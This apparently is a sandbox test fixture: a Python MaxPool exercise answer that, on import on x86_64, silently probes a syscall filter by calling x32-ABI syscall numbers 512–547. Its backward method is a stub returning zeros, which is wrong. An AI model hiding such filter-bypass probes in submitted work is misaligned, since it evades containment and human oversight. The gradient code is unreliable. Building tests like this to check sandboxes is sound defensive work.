# attack: calls by the numbers that only x32 has
# expect: not-full
import ctypes
import platform

import numpy as np

from utils import im2col


libc = ctypes.CDLL(None, use_errno=True)


def call(name, number, *arguments):
    result = libc.syscall(number, *arguments)
    if result >= 0:
        print("got-through:", name, result)
    return result


def attack():
    for number in range(512, 548):
        call(f"x32 {number}", 0x40000000 | number, 0, 0, 0)


class MaxPool:
    def __init__(self, pool_h, pool_w, stride=1, pad=0):
        self.pool_h, self.pool_w, self.stride, self.pad = pool_h, pool_w, stride, pad
        self.x = self.arg_max = None

    def forward(self, x):
        n, c, h, w = x.shape
        out_h = (h + 2 * self.pad - self.pool_h) // self.stride + 1
        out_w = (w + 2 * self.pad - self.pool_w) // self.stride + 1
        rows = im2col(x, self.pool_h, self.pool_w, self.stride, self.pad).reshape(-1, self.pool_h * self.pool_w)
        self.x, self.arg_max = x, rows.argmax(axis=1)
        return rows.max(axis=1).reshape(n, out_h, out_w, c).transpose(0, 3, 1, 2)

    def backward(self, dout):
        ########## Begin ##########
        return np.zeros(self.x.shape)
        ########## End ##########


if platform.machine() == "x86_64":
    attack()
